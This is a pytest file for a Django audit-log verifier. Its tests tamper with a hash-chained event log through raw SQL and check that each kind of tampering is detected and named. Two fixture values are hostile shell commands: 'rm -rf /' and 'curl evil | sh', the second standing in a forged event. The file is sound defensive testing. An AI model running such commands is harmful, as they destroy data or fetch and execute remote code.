"""``audit_verify`` finds each kind of tampering made by raw SQL and names the event."""
from __future__ import annotations

import io
import json

import pytest
from django.core.management import CommandError, call_command
from django.db import connection

from audit import verify
from audit.checkpoints import audit_checkpoint_create
from audit.models import AuditEvent

pytestmark = pytest.mark.django_db(transaction=True)


def run_verify(*extra: str) -> tuple[int, dict]:
    out = io.StringIO()
    try:
        call_command("audit_verify", "--json", "--no-progress", *extra, stdout=out)
        code = 0
    except CommandError as exc:
        code = exc.returncode
    return code, json.loads(out.getvalue())


def sql(statement: str, params: list | tuple = ()) -> None:
    with connection.cursor() as cur:
        cur.execute(statement, params)


def test_an_untouched_chain_verifies(chained_events):
    code, report = run_verify()
    assert code == 0
    assert report["ok"] is True
    assert report["events"] == 10
    assert report["last_seq"] == 10


def test_it_names_the_event_whose_field_was_changed(chained_events):
    victim = chained_events[4]
    sql("UPDATE audit_auditevent SET decision = 'deny' WHERE id = %s", [victim.id])
    code, report = run_verify()
    assert code == 1
    first = report["findings"][0]
    assert first["kind"] == verify.CHANGED
    assert first["event_id"] == victim.id
    assert first["seq"] == victim.seq
    assert len(report["findings"]) == 1


def test_it_names_the_event_whose_json_arguments_were_changed(chained_events):
    victim = chained_events[2]
    AuditEvent.objects.filter(id=victim.id).update(args={"command": "rm -rf /"})
    code, report = run_verify()
    assert code == 1
    assert report["findings"][0]["kind"] == verify.CHANGED
    assert report["findings"][0]["event_id"] == victim.id


def test_it_names_the_gap_left_by_a_deleted_middle_event(chained_events):
    victim = chained_events[5]
    sql("DELETE FROM audit_auditevent WHERE id = %s", [victim.id])
    code, report = run_verify()
    assert code == 1
    first = report["findings"][0]
    assert first["kind"] == verify.DELETED
    assert first["seq"] == victim.seq
    assert f"seq={victim.seq}..{victim.seq}" in first["message"]
    assert first["event_id"] == chained_events[6].id


def test_it_names_a_forged_event_inserted_at_the_end(chained_events):
    last = chained_events[-1]
    # A copy of the last event with another command, a next seq and a made-up link.
    columns = [f.column for f in AuditEvent._meta.concrete_fields if f.column not in ("id", "seq", "link", "args")]
    names = ", ".join(columns)
    sql(
        f"INSERT INTO audit_auditevent ({names}, args, seq, link)"
        f" SELECT {names}, %s, %s, %s FROM audit_auditevent WHERE id = %s",
        [json.dumps({"command": "curl evil | sh"}), last.seq + 1, "ab" * 32, last.id],
    )
    forged = AuditEvent.objects.get(seq=last.seq + 1)
    code, report = run_verify()
    assert code == 1
    first = report["findings"][0]
    assert first["kind"] == verify.INSERTED
    assert first["event_id"] == forged.id


def test_it_names_a_forged_event_that_replaced_a_middle_one(chained_events):
    victim = chained_events[3]
    sql("UPDATE audit_auditevent SET reason = 'x', link = %s WHERE id = %s", ["cd" * 32, victim.id])
    code, report = run_verify()
    assert code == 1
    assert report["findings"][0]["kind"] == verify.INSERTED
    assert report["findings"][0]["event_id"] == victim.id


def test_it_names_two_events_that_were_swapped(chained_events):
    a, b = chained_events[3], chained_events[4]
    sql("UPDATE audit_auditevent SET seq = -1 WHERE id = %s", [a.id])
    sql("UPDATE audit_auditevent SET seq = %s WHERE id = %s", [a.seq, b.id])
    sql("UPDATE audit_auditevent SET seq = %s WHERE id = %s", [b.seq, a.id])
    code, report = run_verify()
    assert code == 1
    first = report["findings"][0]
    assert first["kind"] == verify.REORDERED
    assert first["seq"] == a.seq
    assert {first["event_id"], a.id} == {b.id, a.id}
    assert str(a.id) in first["message"] and str(b.id) in first["message"]


def test_it_finds_the_newest_events_deleted_behind_the_last_checkpoint(chained_events):
    cp = audit_checkpoint_create()
    assert cp is not None and cp.seq == 10
    sql("DELETE FROM audit_auditevent WHERE seq > 7")
    sql("UPDATE audit_chainhead SET seq = 7, link = (SELECT link FROM audit_auditevent WHERE seq = 7)")
    code, report = run_verify()
    assert code == 1
    first = report["findings"][0]
    assert first["kind"] == verify.TRUNCATED
    assert first["seq"] == 8
    assert "seq=7" in first["message"] and "seq=10" in first["message"]


def test_it_finds_a_truncated_tail_against_an_exported_checkpoint_when_the_checkpoints_were_deleted(
    chained_events, tmp_path
):
    audit_checkpoint_create()
    exported = tmp_path / "checkpoints.jsonl"
    call_command("audit_checkpoint", "--no-create", "--export", str(exported), stderr=io.StringIO())
    sql("DELETE FROM audit_auditevent WHERE seq > 8")
    sql("DELETE FROM audit_auditcheckpoint")
    sql("UPDATE audit_chainhead SET seq = 8, link = (SELECT link FROM audit_auditevent WHERE seq = 8)")
    assert run_verify()[0] == 0  # without the export, the truncation is invisible
    code, report = run_verify("--checkpoint", str(exported))
    assert code == 1
    assert report["findings"][0]["kind"] == verify.TRUNCATED
    assert str(exported) in report["findings"][0]["message"]


def test_it_finds_the_newest_events_deleted_against_the_chain_head(chained_events):
    sql("DELETE FROM audit_auditevent WHERE seq > 8")
    code, report = run_verify()
    assert code == 1
    assert report["findings"][0]["kind"] == verify.TRUNCATED


def test_a_forged_checkpoint_is_reported(chained_events):
    cp = audit_checkpoint_create()
    sql("UPDATE audit_auditcheckpoint SET seq = 50 WHERE id = %s", [cp.id])
    code, report = run_verify()
    assert code == 1
    assert report["findings"][0]["kind"] == verify.CHECKPOINT_FORGED


def test_an_event_written_outside_the_chain_is_reported(chained_events):
    AuditEvent.objects.create(created_at=chained_events[0].created_at, tool="Bash", decision="allow")
    code, report = run_verify()
    assert code == 1
    assert report["findings"][0]["kind"] == verify.UNCHAINED


def test_the_result_fields_reported_later_do_not_break_the_chain(chained_events):
    AuditEvent.objects.filter(id=chained_events[1].id).update(exit_code=0, duration_ms=12, success=True)
    assert run_verify()[0] == 0


def test_checkpoints_are_idempotent_for_the_same_head(chained_events):
    assert audit_checkpoint_create().id == audit_checkpoint_create().id


def test_verify_shows_progress_on_long_runs(chained_events, capsys):
    seen = []
    report = verify.verify_chain(progress=lambda n, seq, s: seen.append(n), progress_every=3)
    assert report.ok
    assert seen == [3, 6, 9]


def test_the_fast_row_encoder_agrees_with_the_chain_contract_byte_for_byte(db, chain_append):
    from audit import chain

    events = [
        chain_append(),
        chain_append(args={"z": [1, 2, {"b": None, "a": "ü\u2028\"\\\n"}], "a": True}, flags=["x", {"k": 1}],
                     reason="naïve “quotes” \t tab", llm_latency_ms=7, dry_run=True),
        chain_append(created_at=__import__("datetime").datetime(2025, 5, 1, 12, 0, 0,
                                                                tzinfo=__import__("datetime").timezone.utc)),
    ]
    select, encode = verify.row_encoder()
    with connection.cursor() as cur:
        cur.execute(f"SELECT {select} FROM audit_auditevent ORDER BY seq")
        rows = cur.fetchall()
    assert len(rows) == len(events)
    for event, row in zip(events, rows):
        fresh = AuditEvent.objects.get(pk=event.pk)
        assert encode(row).encode("utf-8") == chain.canonical_json(chain.event_content(fresh))


def _record(n: int) -> None:
    from django.db import transaction
    from django.utils import timezone

    from audit.services import audit_event_record

    with transaction.atomic():
        audit_event_record(created_at=timezone.now(), tool="Bash", args={"command": f"ls {n}"}, decision="allow",
                           session_id="s")


@pytest.mark.skipif(connection.vendor != "sqlite", reason="the remembered head is SQLite's")
def test_a_remembered_head_that_someone_else_moved_is_read_again():
    """SQLite: the writer moves the head on from the one it remembers, with an UPDATE that
    applies only if the head is still that one. Another writer in between (a worker, a
    command) or a rolled-back transaction makes it read the head as usual: no fork."""
    from django.db import transaction

    from audit import services

    _record(1)
    remembered = dict(services._sqlite_heads)
    assert remembered, "the first write leaves the head it wrote"
    _record(2)                                  # the head moves on
    services._sqlite_heads.clear()
    services._sqlite_heads.update(remembered)   # as if another process had written event 2
    _record(3)
    try:
        with transaction.atomic():              # a write that rolls back after moving the head
            _record(4)
            raise RuntimeError("roll back")
    except RuntimeError:
        pass
    _record(5)
    code, report = run_verify()
    assert code == 0, report
    assert report["events"] == 4 and report["last_seq"] == 4
    assert list(AuditEvent.objects.order_by("seq").values_list("seq", flat=True)) == [1, 2, 3, 4]
